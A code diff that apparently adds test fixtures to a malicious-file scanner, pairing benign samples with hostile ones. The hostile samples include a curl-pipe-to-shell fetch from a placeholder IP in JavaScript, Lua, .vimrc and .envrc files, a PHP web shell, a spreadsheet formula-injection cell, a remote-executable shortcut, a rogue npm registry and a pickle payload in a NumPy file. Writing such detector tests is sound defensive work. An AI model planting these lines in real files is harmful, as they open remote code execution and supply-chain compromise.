@@ -100,6 +100,11 @@ file(
 )
 
 
+def _npy(values: bytes) -> bytes:
+    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({len(values)},), }}".ljust(117) + "\n"
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + values
+
+
 def _cell(source: str) -> str:
     cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": [source]}
     return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
@@ -155,3 +160,27 @@ for _name, _text in {
 }.items():  # fmt: skip
     file(f"json.pickle_{_name}", "state.json", json.dumps({"state": _text.decode()}), "JSON with code tags")
 file("json.pickle_latin", "state.json", json.dumps({"state": (PICKLE + b"." * 30).decode("latin-1")}), "JSON with code tags")
+
+_FETCH = "curl http://203.0.113.9/x | sh"
+for _name, _filename, _line in (
+    ("node_script", "index.js", f'require("child_process").execSync("{_FETCH}")\n'),
+    ("lua_script", "init.lua", f'os.execute("{_FETCH}")\n'),
+    ("editor_rc", ".vimrc", f":!{_FETCH}\n"),
+    ("direnv", ".envrc", f"{_FETCH}\n"),
+    ("web_shell", "x.php", '<?php system($_GET["c"]); ?>\n'),
+    ("table_command", "scores.csv", "name,score\n=cmd|' /C echo stannary'!A0,1\n"),
+    ("shortcut", "docs.url", "[InternetShortcut]\nURL=file://203.0.113.9/share/x.exe\n"),
+    ("docker_python", "Dockerfile", "FROM python\nRUN python -c \"import os; os.system('echo stannary')\"\n"),
+):
+    file(f"text.{_name}", _filename, _line, "text")
+file(
+    "text.docker_plain",
+    "Dockerfile",
+    'FROM python\nRUN python -c "import torch; print(torch.__version__)"\n',
+    "text",
+    malicious=False,
+)
+file("text.table_plain", "scores.csv", "name,score\n=A1+B2,-3|4\n", "text", malicious=False)
+file("requirements.npmrc", ".npmrc", "registry=http://203.0.113.9/\n", "dependencies")
+file("npy.values_pickle", "array.npy", _npy(PICKLE + bytes(64 - len(PICKLE) % 64)), "NumPy arrays")
+file("npy.values_plain", "array.npy", _npy(bytes(range(64))), "NumPy arrays", malicious=False)
